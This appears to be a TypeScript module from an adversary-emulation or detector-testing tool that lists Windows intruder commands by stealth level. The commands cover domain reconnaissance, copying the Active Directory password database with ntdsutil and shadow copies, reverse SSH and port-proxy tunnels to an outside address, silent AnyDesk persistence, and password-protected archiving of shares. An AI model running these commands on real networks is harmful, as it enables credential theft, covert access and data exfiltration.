// What intruders type. The careless use what every rule knows; those who know the detectors use what administrators use.

import { byStealth } from './campaign.ts'
import type { Stealth } from './campaign.ts'

const SYSTEM = 'C:\\Windows\\System32\\'
const POWERSHELL = `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`

export type Command = readonly [program: string, command: string]

const NONE: readonly Command[] = []

type Kind =
  | 'listing'
  | 'fewer'
  | 'quiet'
  | 'likeAdministrators'
  | 'ntdsutil'
  | 'shadow'
  | 'systemBackup'
  | 'portProxy'
  | 'sshRelay'
  | 'remoteTool'
  | 'packing'

export const COMMANDS: Readonly<Record<Kind, readonly Command[]>> = {
  listing: [
    [`${SYSTEM}net.exe`, 'net group "Domain Admins" /domain'],
    [`${SYSTEM}nltest.exe`, 'nltest /dclist:'],
    [
      `${SYSTEM}wbem\\WMIC.exe`,
      'wmic path win32_logicaldisk get caption,filesystem,freespace,size,volumename',
    ],
    [POWERSHELL, 'powershell.exe -nop -c "Get-EventLog security -instanceid 4624 | fl *"'],
  ],
  fewer: [
    [`${SYSTEM}nltest.exe`, 'nltest /dclist:'],
    [`${SYSTEM}quser.exe`, 'quser'],
    [`${SYSTEM}ipconfig.exe`, 'ipconfig /all'],
  ],
  quiet: [
    [POWERSHELL, 'powershell.exe -c "([adsisearcher]\'(objectClass=computer)\').FindAll().Count"'],
    [`${SYSTEM}nslookup.exe`, 'nslookup records'],
  ],
  likeAdministrators: [[`${SYSTEM}mmc.exe`, 'mmc.exe dsa.msc']],
  ntdsutil: [
    [`${SYSTEM}ntdsutil.exe`, 'ntdsutil "ac i ntds" ifm "create full C:\\Windows\\Temp\\Pro" q q'],
  ],
  shadow: [[`${SYSTEM}vssadmin.exe`, 'vssadmin create shadow /for=C:']],
  systemBackup: [
    [`${SYSTEM}wbadmin.exe`, 'wbadmin start systemstatebackup -backupTarget:E: -quiet'],
  ],
  portProxy: [
    [
      `${SYSTEM}netsh.exe`,
      'netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=9999 connectaddress=198.18.5.80 connectport=8443 protocol=tcp',
    ],
  ],
  sshRelay: [[`${SYSTEM}OpenSSH\\ssh.exe`, 'ssh -N -R 2222:localhost:3389 relay@198.18.5.80']],
  remoteTool: [['C:\\Users\\Public\\AnyDesk.exe', 'AnyDesk.exe --silent --start-with-win']],
  packing: [['C:\\PerfLogs\\7z.exe', '7z.exe a -pS3cret C:\\PerfLogs\\out.7z D:\\shares\\records']],
}

/** To see where they are. */
export function lookingAround(stealth: Stealth): readonly Command[] {
  const { listing, fewer, quiet, likeAdministrators } = COMMANDS
  return byStealth(stealth, [listing, fewer, quiet, likeAdministrators])
}

/** To have every password of the directory. */
export function copyingDirectory(stealth: Stealth): readonly Command[] {
  return byStealth(stealth, [COMMANDS.ntdsutil, COMMANDS.shadow, COMMANDS.systemBackup, NONE])
}

/** To come back another way. */
export function relaying(stealth: Stealth): readonly Command[] {
  return byStealth(stealth, [COMMANDS.portProxy, COMMANDS.portProxy, COMMANDS.sshRelay, NONE])
}
